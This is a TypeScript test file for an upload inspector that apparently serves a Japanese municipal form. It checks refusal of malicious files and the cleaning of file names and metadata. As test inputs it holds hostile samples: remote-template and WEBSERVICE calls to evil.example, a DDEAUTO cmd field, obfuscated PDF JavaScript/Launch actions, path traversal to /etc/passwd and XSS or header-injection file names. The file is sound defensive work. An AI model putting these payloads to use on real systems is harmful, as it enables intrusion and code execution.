import { readFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import * as specimens from '../../../test/specimens.ts'
import { xlsx } from '../sheet/index.ts'
import { cleanFileName } from '../uploads/index.ts'
import { contentDisposition, fileHeaders, inspectUpload } from './index.ts'

const refusal = (bytes: Uint8Array, name = 'a.bin', limits = {}) => {
  const found = inspectUpload(bytes, name, limits)
  return 'because' in found ? found.because : `taken as ${found.kind}`
}
const taken = (bytes: Uint8Array, name: string) => {
  const found = inspectUpload(bytes, name)
  if ('because' in found) throw new Error(found.because)
  return found
}
async function bytesOf(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = []
  for await (const chunk of chunks) all.push(chunk)
  return Buffer.concat(all)
}
const has = (bytes: Uint8Array, text: string) => Buffer.from(bytes).includes(text)

describe('what is not taken', () => {
  test.each([
    ['nothing', Buffer.alloc(0), '空です'],
    ['a program called a photo', Buffer.from('MZ\x90\0\x03'), 'この形式'],
    ['a script', Buffer.from('#!/bin/sh\necho'), 'この形式'],
    ['a page with script called a photo', Buffer.from('<html><script>alert(1)</script>'), 'この形式'],
    [
      'a drawing that may hold script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
      'この形式',
    ],
    ['a photo that only some telephones can open', Buffer.from('\0\0\0\x18ftypheic0000', 'latin1'), 'JPEG'],
    ['an old or locked Office file', Buffer.from('d0cf11e0a1b11ae1', 'hex'), '古い形式'],
    ['a plain archive', specimens.zip([{ name: 'a.exe' }]), '展開'],
    ['a locked document', specimens.docx({ name: 'x', encrypted: true }), 'パスワード'],
    ['a document with macros', specimens.docx({ name: 'word/vbaProject.bin' }), 'マクロ'],
    ['a document that climbs out of its folder', specimens.docx({ name: '../../etc/x' }), '壊れて'],
    ['a document with something behind it', Buffer.concat([specimens.docx(), Buffer.from('<script>')]), '壊れて'],
    ['a document with two names for one part', specimens.docx({ name: 'a.xml', localName: 'b.xml' }), '壊れて'],
    ['a PDF cut off', Buffer.from('%PDF-1.7\n1 0 obj'), '壊れて'],
    ['a PDF that starts a program', specimens.pdf('/OpenAction <</S /Launch>>'), 'プログラム'],
    ['a PDF with script', specimens.pdf('/S /JavaScript /JS (app.alert(1))'), 'プログラム'],
    ['a locked PDF', specimens.pdf('/Encrypt 3 0 R'), 'パスワード'],
    ['a PDF whose script is spelt in numbers', specimens.pdf('/S /J#61vaScript /JS (app.alert(1))'), 'プログラム'],
    ['a PDF whose program is spelt in numbers', specimens.pdf('/OpenAction <</S /L#61u#6Ech>>'), 'プログラム'],
    ['a PDF that carries a file', specimens.pdf('/EF <</F 5 0 R>>'), 'プログラム'],
    ['a PDF that sends away what is typed', specimens.pdf('/A <</S /SubmitForm>>'), 'プログラム'],
    ['a PDF with a packed script', specimens.pdfWithPackedObjects('<</S/JavaScript/JS(app.alert(1))>>'), 'プログラム'],
    ['a PDF with a packed program in numbers', specimens.pdfWithPackedObjects('<</S/#4caunch>>'), 'プログラム'],
    [
      'a PDF whose packed objects nobody can look into',
      specimens.pdfWithPackedObjects('', { filter: '/LZWDecode', packed: Buffer.from('800b6050220c0c8501', 'hex') }),
      '中を確かめられない',
    ],
    [
      'a PDF whose packed objects fill a disk',
      specimens.pdfWithPackedObjects('', { packed: deflateSync(Buffer.alloc(80_000_000)) }),
      '大きすぎ',
    ],
    ['a photo cut off', specimens.jpeg().subarray(0, 60), '壊れて'],
    ['a picture cut off', specimens.png().subarray(0, 40), '壊れて'],
    ['a picture larger than a screen could show', specimens.png({ width: 60_000, height: 60_000 }), '大きすぎ'],
  ])('%s', (_, bytes, sentence) => {
    expect(refusal(bytes)).toContain(sentence)
  })

  test('a PDF that may be read but not printed, with a sentence that is true of it', () => {
    const locked = readFileSync('test/specimens/print-locked.pdf')
    expect(refusal(locked, '届出.pdf')).toBe(
      'パスワードや、印刷・編集の制限がかかったPDFは、中を確かめられないため添付できません。制限を外すか、もとの文書からPDFをつくり直して添付してください。',
    )
  })

  test('a program called a text', () => {
    expect(refusal(Buffer.from('MZ\x90\0\x03'), 'memo.txt')).toContain('この形式')
    expect(refusal(Buffer.from([0x61, 0x82, 0x20]), 'memo.csv')).toContain('この形式')
  })

  test('a document that unfolds to more than it says, or to more than a disk holds', () => {
    const zeros = Buffer.alloc(20_000_000)
    expect(refusal(specimens.docx({ name: 'big', body: zeros, size: 10 }))).toContain('大きすぎ')
    const many = Array.from({ length: 8 }, (_, i) => ({ name: `big${i}`, body: zeros }))
    expect(refusal(specimens.docx(...many))).toContain('大きすぎ')
  })

  test('what the form does not ask for, and what weighs too much', () => {
    expect(refusal(specimens.pdf(), 'a.pdf', { kinds: ['jpeg', 'png'] })).toBe(
      'ここに添付できるのは、画像(JPEG)、画像(PNG)です。',
    )
    expect(refusal(Buffer.alloc(3 * 1024 * 1024), 'a.txt', { maxBytes: 2 * 1024 * 1024 })).toContain('2MBまで')
  })

  test('no bytes at all make the inspection fall over', () => {
    const heads = [
      specimens.jpeg(),
      specimens.png(),
      specimens.webp(),
      specimens.gif(),
      specimens.docx(),
      specimens.pdf(),
    ]
    fc.assert(
      fc.property(fc.constantFrom(...heads), fc.nat(), fc.uint8Array({ maxLength: 40 }), (head, cut, rest) => {
        const broken = Buffer.concat([
          head.subarray(0, cut % head.length),
          rest,
          head.subarray((cut + rest.length) % head.length),
        ])
        const found = inspectUpload(broken, 'a')
        expect('because' in found || found.size > 0).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('office documents that reach outside', () => {
  const { docx, xlsxWith, pptxWith, odtWith, related, zip } = specimens
  const at = (place: string) => `${place}/_rels/x.xml.rels`
  const wide = (xml: string) => Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(xml, 'utf16le')])
  const remote =
    '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
  const chart = zip([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.xml' }])

  test.each([
    ['a remote template', docx(related(at('word'), 'attachedTemplate', 'https://evil.example/a.dotm'))],
    ['a template on another machine', docx(related(at('word'), 'attachedTemplate', 'file:///\\\\evil\\a.dotm'))],
    [
      'a template spelt in numbers',
      docx(related(at('word'), 'attachedTemplate', '&#104;ttp://evil.example/a', '&#69;xternal')),
    ],
    ['a remote template in wide letters', docx({ name: at('word'), body: wide(remote) })],
    ['a picture that is fetched when it is opened', docx(related(at('word'), 'image', 'https://evil.example/a.png'))],
    ['a part of another document', docx(related(at('word'), 'subDocument', 'file:///C:/a.docx'))],
    ['a link to another book', xlsxWith(related(at('xl/externalLinks'), 'externalLinkPath', 'file:///C:/a.xlsx'))],
    [
      'a link to a running program',
      xlsxWith({ name: 'xl/externalLinks/externalLink1.xml', body: Buffer.from('<ddeLink ddeService="cmd"/>') }),
    ],
    ['a connection to data', xlsxWith({ name: 'xl/connections.xml', body: Buffer.from('<connections/>') })],
    [
      'a formula that fetches',
      xlsxWith({
        name: 'xl/worksheets/sheet1.xml',
        body: Buffer.from('<f>_xlfn.WEBSERVICE("http://evil.example")</f>'),
      }),
    ],
    [
      'a field that starts a program',
      docx({
        name: 'word/footer1.xml',
        body: Buffer.from(
          '<w:instrText>DD</w:instrText><w:instrText xml:space="preserve">EAUTO c:\\\\cmd</w:instrText>',
        ),
      }),
    ],
    ['a remote film on a slide', pptxWith(related(at('ppt/slides'), 'video', 'https://evil.example/a.mp4'))],
    ['a remote picture in OpenDocument', odtWith('<draw:image xlink:href="http://evil.example/a.png"/>')],
    ['a linked section in OpenDocument', odtWith('<text:section-source xlink:href="../a.odt"/>')],
    ['a link to a running program in OpenDocument', odtWith('<office:dde-source office:dde-application="soffice"/>')],
  ])('%s', (_, bytes) => {
    expect(refusal(bytes)).toBe(
      'ほかのファイルやホームページから内容を取り込む設定のある文書は添付できません。取り込みのリンクを解除するか、PDFで保存し直したものを添付してください。',
    )
  })

  test.each([
    ['an object of another program', docx({ name: 'word/embeddings/oleObject1.bin' })],
    ['a control that runs', docx({ name: 'word/activeX/activeX1.xml' })],
    [
      'a document in a document',
      docx(
        { name: 'word/embeddings/a.docx', body: docx() },
        related(at('word'), 'package', 'embeddings/a.docx', 'Internal'),
      ),
    ],
    [
      'a chart’s book that holds an object itself',
      pptxWith(
        { name: 'ppt/embeddings/b.xlsx', body: xlsxWith({ name: 'xl/embeddings/oleObject1.bin' }) },
        related(at('ppt/charts'), 'package', '../embeddings/b.xlsx', 'Internal'),
      ),
    ],
    ['an object in OpenDocument', odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
    [
      'a step that calls a program in OpenDocument',
      odtWith('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:LibreLogo"/>'),
    ],
  ])('%s', (_, bytes) => {
    expect(refusal(bytes)).toBe(
      'ほかのファイルやプログラムを埋め込んだ文書は添付できません。埋め込んだものを外すか、PDFで保存し直したものを添付してください。',
    )
  })

  test('a locked OpenDocument', () => {
    const manifest = Buffer.from('<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>')
    expect(refusal(odtWith('\x93\x10', { name: 'META-INF/manifest.xml', body: manifest }))).toContain('パスワード')
  })

  test('while links to read on, charts and one’s own template are taken', () => {
    const good = [
      docx(related(at('word'), 'hyperlink', 'https://www.city.example.lg.jp/')),
      docx(related(at('word'), 'attachedTemplate', 'file:///C:\\Users\\hanako\\様式.dotx')),
      docx(related(at('word'), 'image', 'media/image1.png', 'Internal'), { name: 'word/media/image1.png' }),
      pptxWith(
        { name: 'ppt/embeddings/b.xlsx', body: chart },
        related(at('ppt/charts'), 'package', '../embeddings/b.xlsx', 'Internal'),
      ),
      xlsxWith({ name: 'xl/ctrlProps/ctrlProp1.xml' }),
      odtWith(
        '<text:a xlink:href="https://www.city.example.lg.jp/">市</text:a><draw:image xlink:href="Pictures/a.png"/>',
      ),
    ]
    expect(good.map((bytes) => refusal(bytes))).toEqual(
      ['docx', 'docx', 'docx', 'pptx', 'xlsx', 'odt'].map((kind) => `taken as ${kind}`),
    )
  })
})

describe('photos', () => {
  test('a photo forgets where it was taken and keeps which way is up', () => {
    const { bytes, kind } = taken(specimens.jpeg(), '写真.JPG')
    expect(kind).toBe('jpeg')
    expect(has(bytes, 'GPS') || has(bytes, 'MPF') || has(bytes, 'xmp')).toBe(false)
    expect(has(bytes, 'ICC_PROFILE\0colours') && has(bytes, 'JFIF')).toBe(true)
    expect(taken(specimens.jpeg({ orientation: 1 }), 'a.jpg').size).toBe(bytes.length - 36)
    expect(taken(bytes, 'a.jpg').sha256, 'stripping twice is stripping once').toBe(
      taken(specimens.jpeg(), 'b.jpg').sha256,
    )
    expect(Buffer.from(bytes).toString('hex')).toMatch(/^ffd8ffe1.*12ff0034ffd056ffc4.*78ffd9$/)
  })

  test('a picture keeps its points and loses its notes', () => {
    const note: [string, Buffer][] = [
      ['eXIf', Buffer.from('MM GPS')],
      ['tEXt', Buffer.from('Location\0GPS')],
      ['iTXt', Buffer.from('XML:com.adobe.xmp GPS')],
      ['zzZz', Buffer.from('GPS')],
      ['gAMA', Buffer.alloc(4)],
    ]
    const { bytes } = taken(Buffer.concat([specimens.png({ extra: note }), Buffer.from('PK GPS')]), 'a.png')
    expect(Buffer.from(bytes).equals(specimens.png({ extra: [note[4]!] }))).toBe(true)
  })

  test('WebP and GIF lose theirs too', () => {
    const found = Buffer.from(taken(specimens.webp(), 'a.webp').bytes)
    expect(found.includes('GPS') || found.includes('XMP ') || found.includes('JUNK')).toBe(false)
    expect(found.includes('ICCP') && found.includes('EXIF')).toBe(true)
    expect([found[20]! & 0x0c, found.readUInt32LE(4) + 8]).toEqual([0x08, found.length])
    expect(Buffer.from(taken(specimens.webp(1), 'a.webp').bytes).includes('EXIF')).toBe(false)
    const moving = Buffer.from(taken(specimens.gif(), 'a.gif').bytes)
    expect(moving.includes('GPS') || moving.includes('script')).toBe(false)
    expect(moving.includes('NETSCAPE2.0') && moving.at(-1) === 0x3b).toBe(true)
  })
})

describe('documents', () => {
  test('a PDF with packed objects and pictures of any bytes is taken', () => {
    const picture = Buffer.concat([
      Buffer.from('6 0 obj <</Subtype /Image>>\nstream\n'),
      Buffer.from('/JS /AA /Launcher /EFG'),
      Buffer.from('\nendstream endobj\n'),
    ])
    const whole = specimens.pdfWithPackedObjects('<</Type/Page/Title(Launch of a JavaScript course)>>')
    const cut = whole.indexOf('trailer')
    expect(taken(Buffer.concat([whole.subarray(0, cut), picture, whole.subarray(cut)]), '案内.pdf').kind).toBe('pdf')
  })

  test('are known by what they are, whatever their name says', async () => {
    const book = await bytesOf(xlsx({ name: '表', columns: [{ key: 'a', label: '名', value: () => '緑' }] }, [1]))
    const odt = specimens.zip([
      { name: 'mimetype', body: Buffer.from('application/vnd.oasis.opendocument.text'), store: true },
      { name: 'content.xml' },
    ])
    expect([book, odt, specimens.docx(), specimens.pdf()].map((bytes) => taken(bytes, 'photo.jpg').name)).toEqual([
      'photo.jpg.xlsx',
      'photo.jpg.odt',
      'photo.jpg.docx',
      'photo.jpg.pdf',
    ])
  })

  test('a text of an old machine is a text', () => {
    expect(taken(Buffer.from('82d082e782aa82c8', 'hex'), 'メモ.TXT')).toMatchObject({ kind: 'txt', name: 'メモ.TXT' })
    expect(taken(Buffer.from('名前,数\r\n緑,1\r\n'), '一覧.csv').kind).toBe('csv')
  })
})

describe('names of files', () => {
  test.each([
    ['../../etc/passwd', 'passwd.jpg'],
    ['C:\\Users\\佐藤\\写真.jpeg', '写真.jpeg'],
    ['evil\u202egpj.exe', 'evilgpj.exe.jpg'],
    ['<img src=x onerror=alert(1)>.jpg', '_img src=x onerror=alert(1)_.jpg'],
    ['a\u0000\r\nSet-Cookie: x.jpg', 'aSet-Cookie_ x.jpg'],
    ['.htaccess', 'htaccess.jpg'],
    ['', 'ファイル.jpg'],
    ['...', 'ファイル.jpg'],
    ['.jpg', 'jpg.jpg'],
    ['CON.jpg', '_CON.jpg'],
    ['髙﨑𠮷　集合.JPG', '髙﨑𠮷 集合.JPG'],
    ['か\u3099.jpg', 'が.jpg'],
  ])('%j is kept as %j', (name, kept) => {
    expect(cleanFileName(name, ['jpg', 'jpeg'])).toBe(kept)
  })

  test('any name becomes one that fits on a disk and in a header', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (name) => {
        const kept = cleanFileName(name, ['pdf'])
        expect(kept).toMatch(/^[^/\\\p{Cc}\p{Cf}<>:"|?*]+\.pdf$/iu)
        expect(Buffer.byteLength(kept)).toBeLessThanOrEqual(250)
        expect(cleanFileName(kept, ['pdf'])).toBe(kept)
        expect(() => new Headers(fileHeaders({ name, type: 'application/pdf', bytes: 1 }))).not.toThrow()
      }),
    )
  })

  test('a header carries the true name and an old program’s one', () => {
    expect(contentDisposition('attachment', '協定書"(案).pdf')).toBe(
      `attachment; filename="file.pdf"; filename*=UTF-8''%E5%8D%94%E5%AE%9A%E6%9B%B8%22%28%E6%A1%88%29.pdf`,
    )
    expect(contentDisposition('inline', 'a"b%.png')).toBe(`inline; filename="a_b_.png"; filename*=UTF-8''a%22b%25.png`)
  })

  test('only images are shown in the page; nothing is guessed', () => {
    expect(fileHeaders({ name: 'a.png', type: 'image/png', bytes: 3 })).toMatchObject({
      'X-Content-Type-Options': 'nosniff',
    })
    const kinds = ['image/png', 'image/svg+xml', 'text/html', 'application/pdf', 'text/plain; charset=utf-8']
    expect(
      kinds.map((type) => fileHeaders({ name: 'a', type, bytes: 1 })['Content-Disposition']!.split(';')[0]),
    ).toEqual(['inline', 'attachment', 'attachment', 'attachment', 'attachment'])
  })
})
